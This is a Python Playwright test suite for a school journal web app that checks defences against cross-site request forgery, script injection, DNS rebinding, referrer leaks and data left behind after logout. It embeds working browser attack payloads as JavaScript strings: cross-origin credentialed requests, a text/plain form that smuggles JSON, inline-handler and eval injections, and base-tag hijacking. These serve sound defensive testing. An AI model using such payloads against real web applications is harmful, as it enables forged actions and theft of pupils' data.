"""Attacks made in a real browser: by a foreign page beside ours, and by what gets into ours.

The foreign page is another port of our host, which browsers count as the same site and send our
cookies to, and another host that leads to this computer. That its attack works where nobody
defends is shown as well.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any, Final

import pytest
from eschool_web import guard
from playwright.sync_api import Browser, BrowserContext, Page, expect

from eschool_core.domain.people import Pupil
from eschool_sync.replica import Replica
from eschool_sync.sandbox import Sandbox
from eschool_sync.server.standing import Stage
from tests.browser.conftest import DESK, LIMIT_MS
from tests.browser.foreign import REBOUND, Foreign, foreign_site
from tests.browser.opening import sign_in
from tests.clients.web.pages import Served
from tests.clients.web.portal_stage import PASSWORD, Site, portal_site

ATTACK: Final = """async ([ours, mark, journal]) => {
    const told = {}, body = JSON.stringify(mark);
    const attempt = async (name, act) => {
        try { told[name] = String(await act()); } catch (error) { told[name] = "refused"; }
    };
    const settled = (element, wanted = "load") => new Promise((done) => {
        element.addEventListener(wanted, () => done("loaded"));
        element.addEventListener("error", () => done("failed"));
        setTimeout(() => done("nothing"), 3000);
    });
    const put = (name, attributes) => {
        const made = Object.assign(document.createElement(name), attributes);
        document.body.append(made);
        return made;
    };
    const frame = put("iframe", {name: "sink"});
    const sent = async (attributes, fields) => {
        const form = put("form", {method: "post", target: "sink", ...attributes});
        for (const [name, value] of Object.entries(fields)) {
            form.append(Object.assign(document.createElement("input"), {name, value}));
        }
        const loaded = settled(frame);
        form.submit();
        return loaded;
    };
    // A form of plain text whose one field spells a JSON object.
    const smuggled = {[body.slice(0, -1) + ',"x":"']: '"}'};
    await attempt("plain form", () => sent(
        {action: ours + "/api/do", enctype: "text/plain"}, smuggled));
    await attempt("form", () => sent({action: ours + "/touch"}, {a: "b"}));
    await attempt("parts", () => sent(
        {action: ours + "/lock", enctype: "multipart/form-data"}, {a: "b"}));
    for (const path of ["/api/do", "/lock", "/logout", "/api/paper/registers"]) {
        await attempt("blind " + path, async () => (await fetch(ours + path, {
            method: "POST", mode: "no-cors", credentials: "include", body})).type);
        await attempt("open " + path, async () => (await fetch(ours + path, {
            method: "POST", credentials: "include", body,
            headers: {"content-type": "application/json"}})).text());
    }
    for (const path of ["/today", journal, "/api/state"]) {
        await attempt("read " + path, async () => (await fetch(ours + path, {
            credentials: "include"})).text());
        await attempt("script " + path, () => settled(put("script", {src: ours + path})));
        await attempt("style " + path, () => settled(put("link", {
            rel: "stylesheet", href: ours + path})));
        await attempt("picture " + path, () => settled(put("img", {src: ours + path})));
    }
    const inside = put("iframe", {src: ours + "/today"});
    await settled(inside);
    await attempt("frame", () => inside.contentDocument.body.innerText);
    const box = put("iframe", {srcdoc: `<form method=post action="${ours}/lock">
        <input name=a></form><script>document.forms[0].submit()</script>`});
    box.sandbox = "allow-scripts allow-forms";
    await settled(box);
    await new Promise((done) => setTimeout(done, 300));
    return told;
}"""
"""Everything that a foreign page can try; gives what each attempt brought it."""

INJECTION: Final = """async ([foreign]) => {
    window.hit = 0;
    const broken = new Set();
    document.addEventListener("securitypolicyviolation",
        (one) => broken.add(one.effectiveDirective));
    const put = (name, attributes, content = "") => {
        const made = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
        made.textContent = content;
        document.body.append(made);
        return made;
    };
    const main = document.getElementById("main");
    put("script", {}, "window.hit = 1");
    put("script", {src: foreign + "/hit.js"});
    main.insertAdjacentHTML("beforeend", "<img src=/nothing onerror='window.hit = 2'>");
    main.insertAdjacentHTML("beforeend", "<svg onload='window.hit = 3'></svg>");
    put("a", {href: "javascript:window.hit = 4"}).click();
    put("style", {}, "body { --hit: 1 }");
    put("p", {style: "--hit: 1"});
    put("link", {rel: "stylesheet", href: foreign + "/hit.css"});
    put("img", {src: foreign + "/hit.png"});
    put("iframe", {src: foreign + "/hit.html"});
    put("object", {data: foreign + "/hit.swf"});
    put("base", {href: foreign});
    await fetch(foreign + "/hit").catch(() => {});
    new Worker(URL.createObjectURL(new Blob(["0"])));
    // Not before: what the test itself calls for may evaluate.
    setTimeout("window.hit = 5");
    setTimeout(() => {
        try { window.eval("window.hit = 6"); } catch (refused) { broken.add("eval"); }
    });
    const form = put("form", {action: foreign + "/hit", method: "post"});
    form.submit();
    for (let looks = 0; looks < 50 && !broken.has("form-action"); looks += 1) {
        await new Promise((done) => setTimeout(done, 100));
    }
    return {
        hit: window.hit, broken: [...broken].sort(), base: document.baseURI.startsWith(foreign),
        styled: getComputedStyle(document.body).getPropertyValue("--hit"),
    };
}"""
"""Everything that a text could become if it were not shown as text."""

DIRECTIVES: Final = {
    "base-uri", "connect-src", "eval", "form-action", "frame-src", "img-src", "object-src",
    "script-src-attr", "script-src-elem", "style-src-attr", "style-src-elem", "worker-src",
}  # fmt: skip


@pytest.fixture(scope="module")
def foreign() -> Iterator[Foreign]:
    with foreign_site() as made:
        yield made


@pytest.fixture(scope="module")
def site(school: Sandbox) -> Iterator[Site]:
    with portal_site(school) as made, made.unlimited():
        yield made


@pytest.fixture
def names(school: Sandbox) -> set[str]:
    """The families of all pupils: nothing of them may come to a foreign page."""
    return {pupil.family for pupil in school.stage.school.store.select(Pupil)}


@pytest.fixture
def window(chromium: Browser, pages: Served) -> Iterator[BrowserContext]:
    """A window in which somebody has the pages open; what is refused is complained of by itself."""
    made = chromium.new_context(viewport=DESK, locale="ru-RU")
    made.set_default_timeout(LIMIT_MS)
    page = made.new_page()
    page.goto(pages.link())
    page.wait_for_selector("td[data-c]:focus")
    yield made
    made.close()


def mark_of(school: Sandbox) -> dict[str, Any]:
    lesson, pupil = school.cast.first, school.cast.first_pupils[-1]
    fields = {"lesson_id": lesson.id, "pupil_id": pupil, "value": 5}
    return {"kind": "record_mark", "fields": fields}


def attacked(window: BrowserContext, origin: str, ours: str, school: Sandbox) -> dict[str, str]:
    """Open the foreign page, let it try everything, and return what it was told."""
    page = window.new_page()
    page.goto(origin)
    journal = f"/api/journal/{school.cast.first.journal_id}"
    told: dict[str, str] = page.evaluate(ATTACK, [ours, mark_of(school), journal])
    page.close()
    return told


def check_nothing_came(told: dict[str, str], names: set[str]) -> None:
    """Fail where the foreign page has read or loaded anything, or knows a name."""
    assert len(told) > 20
    assert not {name for name in names if name in str(told)}
    for attempt, brought in told.items():
        if attempt.startswith(("script", "style", "picture")):
            assert brought == "failed", attempt
        if attempt.startswith(("read", "open", "frame")):
            assert brought == "refused", attempt


@pytest.mark.asvs("3.5.1")
@pytest.mark.asvs("3.5.2")
@pytest.mark.asvs("3.4.2")
@pytest.mark.parametrize("origin", ["neighbour", "stranger"])
def test_a_foreign_page_beside_ours_reads_writes_and_locks_nothing(
    window: BrowserContext, pages: Served, replica: Replica, school: Sandbox, names: set[str],
    foreign: Foreign, origin: str,
) -> None:  # fmt: skip
    before = replica.next_number(), replica.status()
    told = attacked(window, getattr(foreign, origin), pages.url, school)
    check_nothing_came(told, names)
    assert (replica.next_number(), replica.status()) == before
    assert pages.door.source is not None, "a foreign page has locked"
    assert not pages.door.proven()


def test_the_same_attack_writes_where_nobody_defends(
    window: BrowserContext, pages: Served, replica: Replica, school: Sandbox, foreign: Foreign,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """Without this the test above could pass because the attack is none."""
    locks: list[bool] = []
    monkeypatch.setattr(guard, "refusal_of", lambda *_: None)
    monkeypatch.setattr(pages.door, "lock", lambda: locks.append(True))
    before = replica.next_number()
    attacked(window, foreign.neighbour, pages.url, school)
    assert replica.next_number() > before
    assert locks


@pytest.mark.asvs("3.5.1")
@pytest.mark.parametrize("origin", ["neighbour", "stranger"])
def test_a_foreign_page_beside_the_servers_reads_and_writes_nothing(
    chromium: Browser, site: Site, school: Sandbox, names: set[str], foreign: Foreign, origin: str
) -> None:
    teacher, server = school.person("teacher"), school.stage.school
    window = chromium.new_context(viewport=DESK)
    sign_in(window, site, teacher)
    own = window.new_page()
    own.goto(f"{site.url}/today")
    before = server.head().seq
    told = attacked(window, getattr(foreign, origin), site.url, school)
    check_nothing_came(told, names)
    assert server.head().seq == before
    assert site.portal.visit(site.token(teacher)).stage is Stage.OPEN
    window.close()


@pytest.mark.asvs("row 50")
def test_a_name_that_is_made_to_lead_here_shows_nothing(
    window: BrowserContext, pages: Served, names: set[str]
) -> None:
    """DNS rebinding: the browser takes us for the foreign site, whose page then reads its own."""
    page = window.new_page()
    for path in ("/", "/today", "/start", "/api/state"):
        answer = page.goto(f"http://{REBOUND}:{pages.host.rpartition(':')[2]}{path}")
        assert answer is not None
        assert answer.status == 421
        assert not {name for name in names if name in page.content()}
    own = page.goto(f"{pages.url}/today")
    assert own is not None
    assert own.ok, "the pages themselves are there"


@pytest.mark.asvs("3.4.3")
def test_what_gets_into_a_page_runs_styles_and_sends_nothing(
    window: BrowserContext, foreign: Foreign
) -> None:
    [page] = window.pages
    check_injection(page, foreign)


@pytest.mark.asvs("3.4.3")
def test_what_gets_into_a_page_of_the_server_runs_styles_and_sends_nothing(
    chromium: Browser, site: Site, school: Sandbox, foreign: Foreign
) -> None:
    window = chromium.new_context(viewport=DESK)
    sign_in(window, site, school.cast.guardian_id)
    page = window.new_page()
    page.goto(f"{site.url}/diary/{school.cast.child}")
    check_injection(page, foreign)
    window.close()


def check_injection(page: Page, foreign: Foreign) -> None:
    foreign.asked.clear()
    came = page.evaluate(INJECTION, [foreign.neighbour])
    assert came["hit"] == 0
    assert set(came["broken"]) >= DIRECTIVES
    assert not came["base"]
    assert came["styled"] == ""
    assert foreign.asked == []


@pytest.mark.asvs("3.4.4")
def test_a_page_is_taken_neither_for_a_script_nor_for_a_style(window: BrowserContext) -> None:
    """Of our own origin, which the policy lets in: what it is called is what it stays."""
    [page] = window.pages
    loaded = page.evaluate(
        """async () => {
            const told = [];
            for (const path of ["/today", "/api/state", "/help"]) {
                for (const [name, attributes] of [
                    ["script", {src: path}], ["link", {rel: "stylesheet", href: path}],
                ]) {
                    const made = Object.assign(document.createElement(name), attributes);
                    told.push(await new Promise((done) => {
                        made.addEventListener("load", () => done(path + " was loaded"));
                        made.addEventListener("error", () => done(""));
                        document.body.append(made);
                    }));
                }
            }
            return told;
        }"""
    )
    assert loaded == [""] * 6


@pytest.mark.asvs("3.4.5")
@pytest.mark.parametrize("of", ["replica", "server"])
def test_a_page_that_is_left_does_not_say_where_somebody_was(
    chromium: Browser,
    window: BrowserContext,
    site: Site,
    school: Sandbox,
    foreign: Foreign,
    of: str,
) -> None:
    if of == "replica":
        [page] = window.pages
    else:
        context = chromium.new_context()
        sign_in(context, site, school.cast.guardian_id)
        page = context.new_page()
        page.goto(f"{site.url}/diary/{school.cast.child}")
    foreign.asked.clear()
    page.evaluate(
        """(to) => { const link = document.createElement("a");
                     link.href = to; document.body.append(link); link.click(); }""",
        f"{foreign.stranger}/elsewhere",
    )
    page.wait_for_url("**/elsewhere")
    [(_, headers)] = [one for one in foreign.asked if one[0] == "/elsewhere"]
    assert "referer" not in headers
    if of == "server":
        page.context.close()


@pytest.mark.asvs("14.2.1")
def test_a_start_link_opens_once_and_is_in_no_history(
    chromium: Browser, pages: Served, names: set[str]
) -> None:
    link = pages.link()
    code = link.partition("#")[2]
    first = chromium.new_context()
    page = first.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(link)
    page.wait_for_selector("td[data-c]:focus")
    wire = first.new_cdp_session(page)
    kept = wire.send("Page.getNavigationHistory")["entries"]
    assert not [entry["url"] for entry in kept if code in entry["url"]]
    # What stands behind # is not sent: no server, and so no log of one, has seen it.
    assert not [url for url in asked if code in url.partition("#")[0]]
    assert code not in page.content()
    second = chromium.new_context()
    late = second.new_page()
    late.goto(link)
    expect(late.locator("#said")).to_contain_text("использована")
    assert second.cookies() == []
    answer = late.goto(f"{pages.url}/today")
    assert answer is not None
    assert answer.status == 403
    assert not {name for name in names if name in late.content()}
    first.close()
    second.close()


@pytest.mark.asvs("14.3.1")
@pytest.mark.asvs("14.3.2")
def test_who_comes_after_a_logout_finds_nothing_in_cache_history_or_storage(
    chromium: Browser, site: Site, school: Sandbox, names: set[str]
) -> None:
    """A family's own computer in a library: out by the button, then the one who sits down next."""
    guardian, child = school.cast.guardian_id, school.cast.child
    window = chromium.new_context(viewport=DESK, locale="ru-RU")
    window.set_default_timeout(LIMIT_MS)
    sign_in(window, site, guardian)
    page = window.new_page()
    seen = [f"/diary/{child}", f"/diary/{child}/results", "/messages", "/inbox"]
    for path in seen:
        page.goto(site.url + path)
    family = school.stage.school.store.require(Pupil, child).family
    page.goto(site.url + seen[0])
    assert family in page.content(), "there is something to be found"
    page.get_by_role("button", name="Выйти").click()
    page.wait_for_url("**/login")
    for _ in seen:
        page.go_back()
        page.wait_for_load_state()
        assert family not in page.content()
    page.goto(f"{site.url}/login")
    cached = page.evaluate(
        """async (paths) => {
            const found = [];
            for (const path of paths) for (const cache of ["only-if-cached", "force-cache"]) {
                const how = {cache, mode: "same-origin", redirect: "follow"};
                found.push(await fetch(path, how).then((one) => one.text(), () => ""));
            }
            return found.join();
        }""",
        seen,
    )
    assert not {name for name in names if name in cached}
    kept = window.storage_state(indexed_db=True)
    assert kept["origins"] == []
    assert [one["name"] for one in kept["cookies"] if not one["name"].endswith("-browser")] == []
    window.close()
    site.tokens.pop(guardian, None)


@pytest.mark.asvs("14.3.1")
def test_out_in_one_window_is_out_in_all_and_a_text_not_sent_is_out_of_sight(
    chromium: Browser, site: Site, school: Sandbox
) -> None:
    guardian, child = school.cast.guardian_id, school.cast.child
    family = school.stage.school.store.require(Pupil, child).family
    browser = chromium.new_context(viewport=DESK, locale="ru-RU")
    browser.set_default_timeout(LIMIT_MS)
    sign_in(browser, site, guardian)
    [read, written, left] = [browser.new_page() for _ in range(3)]
    for page in (read, left):
        page.goto(f"{site.url}/diary/{child}")
        assert family in page.content()
    written.goto(f"{site.url}/messages/new")
    field = written.locator("main textarea").first
    field.fill(f"О болезни: {family}")
    left.get_by_role("button", name="Выйти").click()
    left.wait_for_url("**/login")
    read.wait_for_url("**/login")
    written.wait_for_selector("#passphrase")
    assert family not in written.content()
    # The password opens no session that is over.
    written.fill("#passphrase", PASSWORD)
    written.keyboard.press("Enter")
    expect(written.locator("#lock-said")).to_have_text("Сеанс окончен. Войдите снова.")
    assert family not in written.content()
    browser.close()
    site.tokens.pop(guardian, None)


@pytest.mark.asvs("14.3.1")
def test_a_window_whose_session_was_ended_elsewhere_leaves_by_itself(
    chromium: Browser, site: Site, school: Sandbox
) -> None:
    teacher = school.cast.teacher_id
    browser = chromium.new_context(viewport=DESK, locale="ru-RU")
    browser.set_default_timeout(LIMIT_MS)
    sign_in(browser, site, teacher)
    page = browser.new_page()
    page.clock.install()
    page.goto(f"{site.url}/journals")
    site.portal.log_out(site.token(teacher))
    page.clock.run_for(16_000)
    page.wait_for_url("**/login")
    browser.close()
    site.tokens.pop(teacher, None)
